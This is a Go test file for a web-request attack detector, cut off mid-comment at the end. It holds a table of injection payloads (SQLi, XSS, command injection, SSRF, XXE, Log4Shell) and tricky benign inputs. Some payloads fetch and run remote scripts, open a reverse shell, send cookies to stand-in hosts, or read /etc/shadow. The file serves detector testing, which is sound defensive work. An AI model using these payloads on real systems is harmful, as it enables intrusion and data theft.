package detect

import (
	"context"
	"errors"
	"log/slog"
	"strings"
	"sync"
	"testing"
)

func newTestDetector(t testing.TB) *Detector {
	t.Helper()
	d, err := New(Config{Logger: slog.New(slog.DiscardHandler)})
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// attackCases are written from attack grammar, one or more per category; none is
// copied from the corpus.
var attackCases = []struct {
	category, where, in string
}{
	{"sqli", "query:id", "42' OR 'x'='x"},
	{"sqli", "query:id", "7 UNION ALL SELECT username, password FROM accounts--"},
	{"sqli", "query:id", "3; DROP TABLE invoices"},
	{"sqli", "query:q", "x') AND SLEEP(5)-- -"},
	{"sqli", "query:q", "1 AND 1=1"},
	{"sqli", "cookie:sid", "abc' AND extractvalue(1,concat(0x7e,(SELECT version())))-- "},
	{"sqli", "query:q", "1%27%20or%20%271%27%3D%271"},
	{"sqli", "query:q", "1/**/UNION/**/SELECT/**/null,null"},
	{"sqli", "query:q", "admin'--"},
	{"sqli", "query:q", "'; EXEC xp_cmdshell('dir')--"},
	{"xss", "query:q", "<script>fetch('//x.test/'+document.cookie)</script>"},
	{"xss", "query:q", `<img src=x onerror=alert(1)>`},
	{"xss", "query:q", `"><svg/onload=confirm(9)>`},
	{"xss", "query:q", `javascript:alert(document.domain)`},
	{"xss", "query:q", `' autofocus onfocus='alert(7)`},
	{"xss", "body:json", `<iframe srcdoc="<script>parent.x()</script>">`},
	{"xss", "query:q", `%3Cscript%3Ealert(1)%3C%2Fscript%3E`},
	{"xss", "query:q", `&lt;img src=1 onerror=prompt(1)&gt;`},
	{"xss", "query:q", "＜script＞alert(1)＜/script＞"},
	{"xss", "query:q", `<a href="jav&#x09;ascript:alert(1)">x</a>`},
	{"cmdi", "query:host", "example.org; cat /etc/passwd"},
	{"cmdi", "query:host", "8.8.8.8 && whoami"},
	{"cmdi", "query:host", "x|nc -e /bin/sh 10.0.0.1 4444"},
	{"cmdi", "query:f", "$(curl http://x.test/s.sh|sh)"},
	{"cmdi", "query:f", "a;cat${IFS}/etc/shadow"},
	{"cmdi", "header:User-Agent", "() { :;}; /bin/bash -c 'id'"},
	{"cmdi", "query:f", "| powershell -enc SQBFAFgA"},
	{"path_traversal", "query:file", "../../../../etc/passwd"},
	{"path_traversal", "query:file", "..%2f..%2f..%2fwindows%2fwin.ini"},
	{"path_traversal", "query:file", "%252e%252e%252f%252e%252e%252fetc%252fshadow"},
	{"path_traversal", "query:file", "....//....//....//etc/hosts"},
	{"path_traversal", "query:file", "..\\..\\..\\boot.ini"},
	{"path_traversal", "path", "/static/..%c0%af..%c0%af..%c0%afetc/passwd"},
	{"file_inclusion", "query:page", "php://filter/convert.base64-encode/resource=index.php"},
	{"file_inclusion", "query:page", "http://203.0.113.9/shell.txt?"},
	{"file_inclusion", "query:page", "file:///etc/passwd"},
	{"ssrf", "query:url", "http://169.254.169.254/latest/meta-data/iam/"},
	{"ssrf", "query:url", "http://127.0.0.1:6379/"},
	{"ssrf", "query:url", "gopher://10.0.0.5:25/_HELO"},
	{"ssrf", "query:url", "http://[::1]/admin"},
	{"ssrf", "query:url", "http://2130706433/"},
	{"xxe", "body:xml", `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>`},
	{"xxe", "body:xml", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/></r>`},
	{"ldap", "query:user", "*)(uid=*))(|(uid=*"},
	{"ldap", "query:user", "admin)(&(objectClass=*)"},
	{"nosql", "query-key", "password[$ne]"},
	{"nosql", "body:json", `{"user":"a","pass":{"$gt":""}}`},
	{"nosql", "query:q", "'; return true; var x='"},
	{"ssti", "query:name", "{{7*7}}"},
	{"ssti", "query:name", "{{ ''.__class__.__mro__[1].__subclasses__() }}"},
	{"ssti", "query:name", "${T(java.lang.Runtime).getRuntime().exec('id')}"},
	{"ssti", "query:name", `<#assign ex="freemarker.template.utility.Execute"?new()>`},
	{"code_injection", "query:x", "<?php system($_GET['c']); ?>"},
	{"code_injection", "header:X-Api-Version", "${jndi:ldap://x.test/a}"},
	{"code_injection", "header:X-Api-Version", "${${lower:j}ndi:rmi://x.test/a}"},
	{"code_injection", "query:x", "require('child_process').exec('id')"},
	{"code_injection", "query:x", "__import__('os').system('id')"},
	{"deserialization", "cookie:state", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA=="},
	{"deserialization", "body:text", `O:8:"stdClass":1:{s:4:"test";s:3:"abc";}`},
	{"deserialization", "body:text", `!!python/object/apply:os.system ["id"]`},
	{"crlf", "query:next", "/home%0d%0aSet-Cookie:%20admin=1"},
	{"crlf", "path", "/a%0d%0aLocation:%20http://x.test"},
	{"proto_pollution", "query-key", "__proto__[isAdmin]"},
	{"proto_pollution", "body:json", `{"constructor":{"prototype":{"polluted":1}}}`},
	{"sensitive_file", "path", "/.git/config"},
	{"sensitive_file", "query:f", "/proc/self/environ"},
	{"recon", "header:User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"},
	{"recon", "header:User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)"},
	{"ssi", "query:x", `<!--#exec cmd="id" -->`},
	{"xpath", "query:user", "' or count(//user)=1 or '1'='1"},
	{"sqli", "query:q", `x OR '{"role":"admin"}'::jsonb <@ '{"role":"admin","x":1}'`},
	{"sqli", "path", `/items/AND '[3,4]' ? '3'`},
	{"sqli", "query:id", "item AND (7)=(-2)"},
	{"sqli", "query:id", "page OR 5+1=3-2"},
	{"sqli", "query:q", "SELECT 5.e.column_name FROM x"},
	{"sqli", "body:json:n", "3.2250738585072012e-308 is fine but 2.22507385850720111e-308 hangs"},
	{"sqli", "query:id", "7 || rpad(user,9,1)"},
	{"xss", "query:q", `<math><mrow><a xlink:href="javascript:alert(2)">tap</a></mrow></math>`},
	{"xss", "query:q", "<?IMPORT namespace=\"t\" implementation=\"//evil.tld/x.htc\">"},
	{"xss", "query:q", "<base x href/=//evil.tld/>"},
	{"xss", "body:json:css", "<style>@import url(//evil.tld/a.css);</style>"},
	{"xss", "query:q", `<p xmlns:e="http://www.w3.org/2001/xml-events" e:event="click" e:handler="#run">`},
	{"xss", "query:q", "+ADw-img src=x onerror=alert(1)+AD4-"},
	{"cmdi", "query:cmd", "if {%2}=={} ..."},
	{"cmdi", "query:cmd", "IF \"%MODE% x\" == \"debug x\" @start run"},
	{"cmdi", "query:cmd", "if/I %answer%==yes x"},
	{"cmdi", "query:cmd", "wget -q -O- http://evil.tld/stage.sh"},
	{"cmdi", "query:f", "zstdcat /var/log/auth.log.zst"},
	{"sqli", "query:q", "zz' like(3) * 2-- -b"},
	{"sqli", "query:q", "qq'in (5)#"},
	{"sqli", "query:q", "bb'=('bb')#("},
	{"sqli", "query:q", ";insert into audit (a, b) values (1, 2)"},
	{"sqli", "query:q", "; truncate sessions"},
	{"xss", "query:q", "abc<i f r a m e src=//evil.tld>"},
	{"xss", "cookie:c", "id=9<s t y l e"},
	{"sqli", "query:id", "7Dunion all select 1,2"},
	{"sqli", "query:q", `zz"") or (""q""=""q"`},
	{"sqli", "query:q", "7'; whatever -- -x"},
	{"cmdi", "query:cmd", ";iwr -UseBasicParsing https://evil.tld/a.ps1"},
	{"xss", "body:json:url", "jav&#13ascript:alert(7)"},
	{"xss", "body:json:url", "j\ta\tv\ta\ts\tc\tr\ti\tp\tt:alert(1)"},
	{"xss", "body:text", `\xbcscript\xbealert(\xa2hi\xa2)\xbc/script\xbe`},
	{"xss", "query:q", `res://c:\\program files\\acme\\acme.dll/#2/#210`},
	{"code_injection", "query:q", "' || this.version || '1'=='1"},
	{"code_injection", "query:q", "function(){ return this.userid}"},
	{"sqli", "query:id", "1 uni/**/on sel/**/ect password fr/**/om users"},
	{"sqli", "query:id", "1' un\x00ion sel\x00ect 1,2-- -"},
	{"cmdi", "header:X-Forwarded-For", ";env"},
	{"cmdi", "query:cmd", "| ps"},
	{"code_injection", "query:q", "(sy.(st).em)('uname');"},
	{"sqli", "body:text", "FrOM information_schema.\n"},
	{"sqli", "query:q", "x from `information_schema`"},
	{"sqli", "body:text", "UnIoN SeLeCt\n"},
	{"sqli", "query:q", "x union all sElEcT"},
	{"sqli", "body:json:email", "admin@shop.example';"},
	{"sqli", "query:q", "1; if not exists (select 1 from users) waitfor delay '0:0:5'"},
	{"xss", "query:q", "x='formaction=//evil.tld"},
	{"cmdi", "query:q", "'cmd=a; sh$XX -c whoami"},
	{"code_injection", "body:json:foo", "$\\u0026lbracejndi:ldap://evil.tld/x}"},
	{"sqli", "body:json:email", "root@shop.example'/* note */;"},
	{"path_traversal", "query:file", "..%2%f..%2%f..%2%fetc%2%fpasswd"},
	{"ssti", "query:q", "{{4+4}}"},
	{"ssti", "query:q", `{{ read_file("/etc/shadow") }}`},
	{"ssti", "query:q", "{{''.__ class __.__ mro __}}"},
	{"ssti", "query:q", "{% for x in range(3) %}{{x}}{% endfor %}"},
}

// hardBenign are inputs that look like attacks to keyword matchers but are ordinary.
var hardBenign = []struct{ where, in string }{
	{"query:q", "select the best option from the list below"},
	{"body:text", "Please don't drop table tennis from the schedule; we love it."},
	{"body:text", "We will update the record and then select a new chair from the committee."},
	{"query:q", "O'Reilly"},
	{"query:q", "Rock 'n' roll and the union of two sets"},
	{"body:text", `Install to C:\Program Files\Acme\bin and restart.`},
	{"body:text", `Windows paths look like C:\Windows\System32\drivers and D:\Users\me\Documents.`},
	{"body:text", "```go\nfunc main() {\n\tfmt.Println(\"hi\")\n}\n```"},
	{"body:text", "To list files use `ls -la`, then `cd ..` to go up."},
	{"query:q", "1=1"},
	{"query:q", "if a < b > c then swap"},
	{"query:q", "x <= y && y >= z"},
	{"query:q", "2 + 2 = 4, and 3 * 3 = 9"},
	{"query:email", "jane.o'connor+news@example.co.uk"},
	{"query:next", "https://example.com/path?a=1&b=2#frag"},
	{"body:json", `{"name":"Widget","tags":["a","b"],"price":12.5,"nested":{"ok":true}}`},
	{"body:text", "Hello {{name}}, your order #{{order_id}} ships today."},
	{"body:text", "Use the ../images folder for assets."},
	{"header:User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36"},
	{"header:User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"},
	{"header:Referer", "https://www.example.org/search?q=select+from+where"},
	{"query:q", "cats & dogs; birds | fish"},
	{"query:q", "Tom & Jerry; the cat food"},
	{"body:text", "The sleep(8 hours) rule is recommended by doctors."},
	{"body:text", "Q&A: what does 'or' mean? It is a conjunction."},
	{"query:q", "100% cotton -- machine wash"},
	{"body:text", "# Title\n\nSome *markdown* with a [link](https://example.com) and `code`."},
	{"body:text", "In SQL you write SELECT name FROM users WHERE id = 1 to fetch a row."},
	{"query:q", "price > 100 and rating >= 4"},
	{"query:q", "C++ & C# developers"},
	{"query:q", "Dear team, thanks!"},
	{"body:text", "Call me at +1 (555) 010-9999; office hours 9-5."},
	{"query:tz", "Europe/Paris"},
	{"query:q", "how to exit vim :wq"},
	{"body:text", "The function f(x) = x^2 + 1 has no real roots when (a)(b) < 0."},
	{"body:text", "Reference: RFC 3986 section 3.3 (path segments like ./ and ../ are removed)."},
	{"query:q", "null"},
	{"query:q", "true"},
	{"cookie:prefs", "theme=dark|lang=en"},
	{"body:text", "SELECT * FROM users WHERE id = 1;"},
	{"body:text", "To count rows: SELECT COUNT(*) FROM orders WHERE status = 'paid';"},
	{"body:text", "SELECT name, email FROM customers ORDER BY name;"},
	{"body:text", "import os\nprint(os.environ['HOME'])"},
	{"body:text", "result = subprocess.run(['ls', '-l'], capture_output=True)"},
	{"body:text", "document.getElementById('out').innerHTML = html;"},
	{"body:text", "if (a < b && b > c) { return a; }"},
	{"body:text", "Use `rm -rf node_modules` then `npm install`."},
	{"body:text", "x = eval('1+2')  # don't do this"},
	{"body:text", "<p>Hello <b>world</b></p>"},
	{"body:text", `<a href="https://example.com">link</a>`},
	{"query:q", "Meet me at 5 or 6 pm; bring snacks & drinks."},
	{"body:text", `C:\Users\Bob\AppData\Local\Temp\setup.log`},
	{"body:text", "cd ../.. && make test"},
	{"body:text", "He said \"hello\" and 'goodbye' -- then left."},
	{"body:text", `curl -X POST https://api.example.com/v1/items -d '{"a":1}'`},
	{"body:text", "$ echo $PATH"},
	{"query:q", "Price: $5 (was $10) - 50% off!"},
	{"body:text", "{{ user.name }} commented on {{ post.title }}"},
	{"query:q", "2+2=4 and 3>2, therefore (2+2)>3"},
	{"header:Referer", "https://www.google.com/search?q=union+select+tutorial"},
	{"body:text", "I'll drop by the office; update me on the union vote."},
	{"body:text", "#include <stdio.h>\nint main() { printf(\"hi\"); return 0; }"},
	{"query:q", "O'Brien & O'Neil; the \"best\" -- really"},
	{"query:q", "=SUM(A1:A10)"},
	{"body:text", "/home/user/projects/../docs/readme.md"},
	{"body:text", "ls -la ~/Downloads"},
	{"body:text", "To remove a branch: git branch -d feature; then git push origin --delete feature"},
	{"body:text", "Run `docker run -it --rm ubuntu bash` to get a shell."},
	{"body:text", "In PHP, use htmlspecialchars($input) before echo."},
	{"body:text", "const x = arr.map(v => v * 2).filter(Boolean);"},
	{"body:text", "My email is o'neil@example.org and my site is https://o-neil.dev/?a=1&b=2"},
	{"body:text", "Path: /usr/local/bin/python3 -m venv .venv && source .venv/bin/activate"},
	{"body:text", "SELECT u.name, COUNT(o.id) FROM users u JOIN orders o ON o.user_id = u.id GROUP BY u.name HAVING COUNT(o.id) > 5"},
	{"body:text", "Check https://example.com/docs/../api/v1 for more."},
	{"query:q", "2 < 3 && 5 > 4 || x == y"},
	{"body:text", "Hello {{ name }}! Your total is {{ total | currency }}."},
	{"body:text", "We use ${HOME}/.config/app.yaml for settings."},
	{"body:text", `Error: cannot open file C:\Windows\Temp\install.log`},
	{"body:text", "The Union Pacific railroad; select trains run from Omaha."},
	{"body:text", "Use & to join, | to pipe, and ; to chain commands in bash."},
	{"body:text", "print(f\"{user!r} said: {msg}\")"},
	{"query:q", "Don't forget: meeting @ 10am -- room #4"},
	{"body:text", "x = 1; y = 2; z = x + y;"},
	{"body:text", `<div class="note">Remember to <em>save</em></div>`},
	{"query:q", "Title: Using eval() safely in JavaScript"},
	{"query:q", "Type 'exit' and press enter."},
	{"body:text", "Copy the file with cp a.txt b.txt, then rm a.txt"},
	{"query:q", "He scored 10 or 12 points, and 3 assists."},
	{"body:form", "password=hunter2&remember=1"},
	{"path", "/api/v2/users/42/orders?limit=10&offset=20&sort=-created_at"},
	{"body:json", `{"query":"select","where":{"id":1}}`},
	{"query:q", "I think 'union' and 'select' are SQL keywords."},
	{"header:User-Agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
	{"header:User-Agent", "curl/8.5.0"},
	{"header:User-Agent", "python-requests/2.31.0"},
	{"header:User-Agent", "Go-http-client/1.1"},
	{"body:text", "D'Angelo, Mary-Kate & Ashley O'Hara"},
	{"body:text", "Can't connect: ERROR 1045 (28000): Access denied for user 'root'@'localhost' (using password: YES)"},
	{"body:text", "SELECT DISTINCT city FROM customers; -- lists each city once"},
	{"body:text", "The query `DELETE FROM logs WHERE ts < now() - interval '30 days'` runs nightly."},
	{"body:text", "x = (a + b) * c / d - e % f"},
	{"body:text", "if (x > 0 && y < 10) { console.log('ok'); }"},
	{"body:text", "for i in $(seq 1 10); do echo $i; done"},
	{"body:text", "npm install --save-dev jest && npm test"},
	{"body:text", "git log --oneline | head -5"},
	{"body:text", "C:\\Program Files (x86)\\Microsoft Office\\root\\Office16\\WINWORD.EXE"},
	{"body:text", "\\\\fileserver\\shared\\reports\\2024\\Q1.xlsx"},
	{"body:text", "%APPDATA%\\Mozilla\\Firefox\\Profiles"},
	{"body:text", "Use <br> for line breaks and <b>bold</b> text."},
	{"body:text", "<img src=\"/static/logo.png\" alt=\"Logo\">"},
	{"body:text", "Press Ctrl+C to copy, Ctrl+V to paste."},
	{"body:text", "The ratio a:b = 3:4, and a/b = 0.75"},
	{"body:text", "f(x) = { x^2 if x >= 0; -x otherwise }"},
	{"body:text", "Email me at first.last+tag@sub.example.co.uk"},
	{"body:text", "key: value\nlist:\n  - one\n  - two"},
	{"body:text", "[link](https://example.com/a_(b)) and ![img](pic.png)"},
	{"body:text", "> quoted text\n>> nested quote"},
	{"body:text", "Bob's \"special\" offer -- 20% off; today only!"},
	{"body:text", "SELECT * FROM t WHERE name LIKE '%smith%'"},
	{"body:text", "What does `rm -rf /` do? Never run it!"},
	{"body:text", "echo \"Hello, World!\""},
	{"body:text", "curl https://api.github.com/repos/golang/go"},
	{"body:text", "The {{mustache}} and ${template} syntaxes differ."},
	{"body:text", "Array: [1, 2, 3]; Object: {\"a\": 1}"},
	{"body:text", "User-agent strings look like Mozilla/5.0 (X11; Linux x86_64)"},
	{"body:text", "john.doe@example.com; jane@example.org"},
	{"body:text", "I/O error on /dev/sda1: read-only file system"},
	{"body:text", "See /etc/nginx/nginx.conf for the server block."},
	{"body:text", "The file is at ~/projects/app/config.yaml"},
	{"body:text", "1 OR 2 people can join; max 3 AND min 1."},
	{"body:text", "Top 10 tips: 1) sleep 8h 2) drink water 3) walk"},
	{"body:text", "function() { return true; }"},
	{"body:text", "$('#id').hide();"},
	{"body:text", "<?xml version=\"1.0\" encoding=\"UTF-8\"?><rss version=\"2.0\"></rss>"},
	{"body:text", "Cost: $1,299.99 (incl. VAT) & free shipping"},
	{"body:text", "He typed 'DROP TABLE' as a joke in the chat."},
	{"body:text", "Union Station, Washington D.C."},
	{"body:text", "Load average: 0.15, 0.10, 0.05"},
	{"body:text", "user@host:~$ ls -la"},
	{"body:text", "Windows key + R, type cmd, press Enter"},
	{"body:text", "http://localhost:3000 is where the dev server runs"},
	{"body:text", "def add(a, b):\n    return a + b\n\nprint(add(1, 2))"},
	{"body:text", "import subprocess\nsubprocess.check_output(['git', 'status'])"},
	{"body:text", "for (let i = 0; i < n; i++) { sum += arr[i]; }"},
	{"body:text", "package main\n\nimport \"fmt\"\n\nfunc main() { fmt.Println(\"hi\") }"},
	{"body:text", "#!/bin/bash\nset -euo pipefail\necho \"done\""},
	{"body:text", "SELECT id, name FROM products WHERE price BETWEEN 10 AND 20 ORDER BY price DESC LIMIT 5;"},
	{"body:text", "UPDATE accounts SET balance = balance - 100 WHERE id = 7;"},
	{"body:text", "INSERT INTO users (name, email) VALUES ('Ann', 'ann@example.com');"},
	{"body:text", "CREATE TABLE t (id INT PRIMARY KEY, name TEXT NOT NULL);"},
	{"body:text", "The formula is E = mc^2, or in code: e = m * c ** 2"},
	{"body:text", "3 < 5 > 2 is ambiguous; write (3 < 5) && (5 > 2)"},
	{"body:text", "Use `SELECT 1` to test the connection."},
	{"body:text", "<table><tr><td>1</td><td>2</td></tr></table>"},
	{"body:text", "<form action=\"/search\" method=\"get\"><input name=\"q\"></form>"},
	{"body:text", "$ sudo apt-get update && sudo apt-get install -y nginx"},
	{"body:text", "C:\\Windows\\System32\\drivers\\etc\\hosts is the hosts file on Windows."},
	{"body:text", "cat ~/.ssh/id_rsa.pub | pbcopy"},
	{"body:text", "To undo: git reset --hard HEAD~1"},
	{"body:text", "If x = 1 or y = 2 then z = 3"},
	{"body:text", "Tom's cat & Jerry's mouse; a classic!"},
	{"body:text", "I love rock 'n' roll -- and jazz."},
	{"body:text", "prices: 10% off; 20% off; 30% off"},
	{"body:text", "\"quoted\" or 'single' -- both work"},
	{"body:text", "Run: python3 -c \"print('hi')\""},
	{"body:text", "http://example.com/page.php?id=12&cat=shoes&sort=asc"},
	{"body:text", "https://shop.example.com/search?q=select+your+size&order=desc"},
	{"body:text", "mailto:info@example.com?subject=Hello%20there"},
	{"body:text", "{\"sql\": \"SELECT * FROM t\", \"note\": \"demo only\"}"},
	{"body:text", "{\"cmd\": \"ls -la\", \"cwd\": \"/home/user\"}"},
	{"body:text", "Visit ../../docs/index.html from the build folder."},
	{"body:text", "sum = a[0] + a[1]; // add the first two"},
	{"body:text", "The ${VAR} syntax expands variables in bash."},
	{"body:text", "Use {% raw %} blocks in Jinja to escape."},
	{"body:text", "alert('Saved!') shows a dialog in the browser."},
	{"body:text", "document.cookie stores small strings in the browser."},
	{"body:text", "onclick handlers should be attached with addEventListener."},
	{"body:text", "He said: \"it's <b>not</b> that simple\"."},
	{"body:text", "Mr. O'Neil's order #12345 ships on 2024-05-01."},
	{"body:text", "Price < $50 & rating > 4 stars"},
	// Found by black-box QA through the demo server (each was answered 403).
	{"query:expr", "1+1=2 and 3<5"},
	{"body:json:body", "Use `SELECT name FROM users WHERE id = ?` with a bound parameter to avoid injection."},
	{"body:json:body", "The SQL statement 'DROP TABLE' deletes a table"},
	{"body:json:html", `<p>Welcome to our <b>shop</b>. <a href="/contact">Contact us</a> <img src="/logo.png" alt="logo"></p>`},
	{"body:json:path", `C:\Windows\System32\drivers\etc\hosts`},
	{"body:json:snippet", "```js\nconst fs = require('fs');\nconst data = fs.readFileSync('config.json', 'utf8');\nconsole.log(JSON.parse(data));\n```"},
	{"body:json:message", "tail -f /var/log/nginx/access.log | grep 404"},
	{"body:json:message", "Check /etc/resolv.conf for the nameserver entries."},
	{"body:json:post", `In PHP: <?php echo "hi"; ?>`},
	{"body:json:post", "Node code usually starts with const fs = require('fs') and const path = require('path')."},
	{"body:text", "PHP files start with <?php and the short echo tag is <?= ."},
	{"query:q", "2*3=6 or 7"},
	{"query:q", `config value '{"a":1}' is JSON`},
	{"body:json:sql", `SELECT data->>'name' FROM t WHERE data @> '{"a":1}'`},
	{"query:q", "cats and 2 = 2 dogs"},
	{"query:q", "apples or 12 = dozen"},
	{"query:asset", "chunk.91e.js main-1e.css v1.e.x"},
	{"query:n", "2.2250738585072014e-308"},
	{"query:q", "x = a || f(y)"},
	{"query:q", "release 3 || newer(2)"},
	{"query:q", `<math><mi>x</mi></math> see <a href="/docs">docs</a>`},
	{"query:q", "?import the implementation = fast path"},
	{"body:json:doc", "put the base href / = sign right after the link tag"},
	{"body:json:css", "@import url(https://fonts.example/css) goes first in a stylesheet"},
	{"body:json:doc", "XML Events live at http://www.w3.org/2001/xml-events, handler attributes follow"},
	{"query:q", "roadw-script and ADw-1"},
	{"body:json:code", "if \"a\" == \"b\":\n    print(1)"},
	{"query:q", "if (x == 1) return"},
	{"query:q", "curl https://api.example.com returns JSON"},
	{"query:q", "zstdcat archive.zst"},
	{"query:q", `price "total" = 5 -- see note`},
	{"query:q", "rock 'n' roll -- a"},
	{"query:q", ";drop me a line"},
	{"query:q", "; insert coin"},
	{"query:q", "x <s c a l e and 1 <m e a n"},
	{"query:q", "print 3dunions, selected 4funion"},
	{"query:q", `he said "yes"; great -- superb`},
	{"query:q", "iwr is the PowerShell alias, see https://learn.example/iwr"},
	{"body:text", "line one ends with java\nscript is on the next line"},
	{"body:text", "see the sandwich/* a comment */es list\r\nSelect a size"},
	{"body:text", "foo\x00bar and more"},
	{"body:text", "\\xe9t\\xe9 is how Latin-1 bytes appear in a hex dump"},
	{"query:q", "the IE res:// scheme, as in res://ieframe/ pages"},
	{"body:json:code", "const v = opts.version || this.version;"},
	{"body:json:code", "return (a.b).c(x)"},
	{"query:q", "a; b; c"},
	{"query:q", "Tom & Jerry; set of 3"},
	{"query:q", "{{ count }} of {{ total }} items"},
	{"query:q", `{{ format_date("2024-01-01") }}`},
	{"body:text", "{% for item in items %}<li>{{ item }}</li>{% endfor %}"},
	{"query:q", "mark fields with __ class __ style underscores"},
	{"query:q", "{{ 4 }}"},
	{"body:text", "The information_schema database describes every table."},
	{"query:q", "copied from information schema docs"},
	{"query:q", "Union Select Committee minutes"},
	{"query:q", "discount 50%4%1 today"},
	{"body:text", "it ends with 'quoted' ;"},
	{"query:q", "the -c whoami option of our CLI prints the user"},
	{"query:q", "Tom &lbrace and Jerry&rbrace"},
	{"query:q", "DRESS WITH HAT 18';"},
	{"body:text", "it's done; if it exists (the file) we skip it"},
	{"query:q", "the formaction attribute = the URL a button submits to"},
	{"body:text", "UNION SELECT is a keyword pair; the UNion selected a chair"},
}

func TestDetectAttacks(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range attackCases {
		t.Run(tc.category+"/"+tc.in, func(t *testing.T) {
			r := d.Detect(context.Background(), tc.in, tc.where)
			if !r.IsThreat {
				t.Fatalf("not detected (score %.2f, threats %+v)", r.ThreatScore, r.Threats)
			}
			if len(r.Threats) == 0 || !strings.HasPrefix(r.Threats[0].Location, tc.where) {
				// A whole JSON/XML document is walked: the location names the member.
				t.Fatalf("threat location = %+v, want %q", r.Threats, tc.where)
			}
			found := false
			for _, th := range r.Threats {
				if th.Category == tc.category {
					found = true
				}
			}
			if !found {
				t.Errorf("no %s evidence in %+v", tc.category, r.Threats)
			}
		})
	}
}

func TestDetectHardBenign(t *testing.T) {
	d := newTestDetector(t)
	for _, tc := range hardBenign {
		t.Run(tc.in, func(t *testing.T) {
			r := d.Detect(context.Background(), tc.in, tc.where)
			if r.IsThreat {
				t.Fatalf("flagged: score %.2f %+v", r.ThreatScore, r.Threats)
			}
		})
	}
}

func TestDetectResultFields(t *testing.T) {
	d := newTestDetector(t)
	in := "1 UNION SELECT password FROM users--"
	r := d.Detect(context.Background(), in, "query:id")
	if !r.IsThreat || r.Category != "sqli" || r.ThreatScore < 0.7 || r.ThreatScore > 1 {
		t.Fatalf("got %+v", r)
	}
	if r.Context != "query:id" || r.OriginalLength != len(in) || r.ProcessedLength == 0 || r.Elapsed <= 0 {
		t.Fatalf("metadata: %+v", r)
	}
	th := r.Threats[0]
	if th.Type != "regex" && th.Type != "libinjection" && th.Type != "semantic" {
		t.Fatalf("type %q", th.Type)
	}
	if th.Match == "" || len(th.Match) > 100 {
		t.Fatalf("match excerpt %q", th.Match)
	}
	clean := d.Detect(context.Background(), "hello world", "query:q")
	if clean.IsThreat || clean.ThreatScore != 0 || len(clean.Threats) != 0 {
		t.Fatalf("clean: %+v", clean)
	}
}

func TestExcerptEscapesControlBytes(t *testing.T) {
	d := newTestDetector(t)
	r := d.Detect(context.Background(), "/x%0d%0aSet-Cookie: a=1", "path")
	if !r.IsThreat {
		t.Fatal("not detected")
	}
	for _, th := range r.Threats {
		if strings.ContainsAny(th.Match, "\r\n") {
			t.Fatalf("raw CR/LF in excerpt %q", th.Match)
		}
	}
}

func TestContexts(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	// Scanner names count in the User-Agent, not in a search box.
	if !d.Detect(ctx, "sqlmap/1.8", "header:User-Agent").IsThreat {
		t.Error("scanner UA not detected")
	}
	if d.Detect(ctx, "sqlmap/1.8", "query:q").IsThreat {
		t.Error("scanner name flagged in a query")
	}
	// Referer carries URLs; SSRF patterns do not apply to headers.
	if d.Detect(ctx, "http://127.0.0.1:8080/", "header:Referer").IsThreat {
		t.Error("loopback Referer flagged")
	}
	if !d.Detect(ctx, "http://127.0.0.1:8080/", "query:url").IsThreat {
		t.Error("loopback URL parameter not flagged")
	}
	// Multi-line text bodies are normal; a header with CR/LF is not.
	if d.Detect(ctx, "line one\nline two\n\nthree", "body:text").IsThreat {
		t.Error("multi-line body flagged")
	}
	if !d.Detect(ctx, "a\r\nX-Injected: 1", "header:X-Forwarded-Host").IsThreat {
		t.Error("CRLF in header not flagged")
	}
}

func TestThreshold(t *testing.T) {
	ctx := context.Background()
	// alert('x') alone is weak evidence (0.5): a threat only with a low threshold.
	in := "see alert('x') in the code"
	low, err := New(Config{SemanticThreshold: 0.4})
	if err != nil {
		t.Fatal(err)
	}
	high, err := New(Config{SemanticThreshold: 0.99})
	if err != nil {
		t.Fatal(err)
	}
	if !low.Detect(ctx, in, "query:q").IsThreat {
		t.Error("threshold 0.4: not a threat")
	}
	if high.Detect(ctx, in, "query:q").IsThreat {
		t.Error("threshold 0.99: threat")
	}
	if _, err := New(Config{SemanticThreshold: 1.5}); err == nil {
		t.Error("threshold 1.5 accepted")
	}
}

func TestCustomPatterns(t *testing.T) {
	d := newTestDetector(t)
	ctx := context.Background()
	if err := d.AddPattern(Pattern{ID: "bad", Category: "custom", Regex: "(unclosed"}); !errors.Is(err, ErrInvalidPattern) {
		t.Fatalf("bad regex: err = %v", err)
	}
	if err := d.AddPattern(Pattern{ID: "lookaround", Category: "custom", Regex: "a(?=b)"}); !errors.Is(err, ErrInvalidPattern) {
		t.Fatalf("look-ahead: err = %v", err)
	}
	if err := d.AddPattern(Pattern{ID: "w", Category: "custom", Regex: "x", Weight: 2}); !errors.Is(err, ErrInvalidPattern) {
		t.Fatalf("weight 2: err = %v", err)
	}
	if err := d.AddPattern(Pattern{ID: "c", Category: "custom", Regex: "x", Contexts: []string{"nowhere"}}); !errors.Is(err, ErrInvalidPattern) {
		t.Fatalf("bad context: err = %v", err)
	}
	if err := d.AddPattern(Pattern{ID: "sqli-union-select", Category: "custom", Regex: "x"}); !errors.Is(err, ErrInvalidPattern) {
		t.Fatalf("duplicate built-in id: err = %v", err)
	}
	if d.Detect(ctx, "order for ACME-INTERNAL-7", "query:q").IsThreat {
		t.Fatal("threat before the pattern exists")
	}
	p := Pattern{ID: "internal-code", Category: "custom", Regex: `\bacme-internal-\d+\b`, Contexts: []string{"query"}}
	if err := d.AddPattern(p); err != nil {
		t.Fatal(err)
	}
	r := d.Detect(ctx, "order for ACME-INTERNAL-7", "query:q")
	if !r.IsThreat || r.Threats[0].Pattern != "internal-code" || r.Category != "custom" {
		t.Fatalf("custom pattern: %+v", r)
	}
	if d.Detect(ctx, "order for ACME-INTERNAL-7", "body:text").IsThreat {
		t.Fatal("custom pattern applied outside its contexts")
	}
	// A value made only of word characters is still seen by custom patterns (the
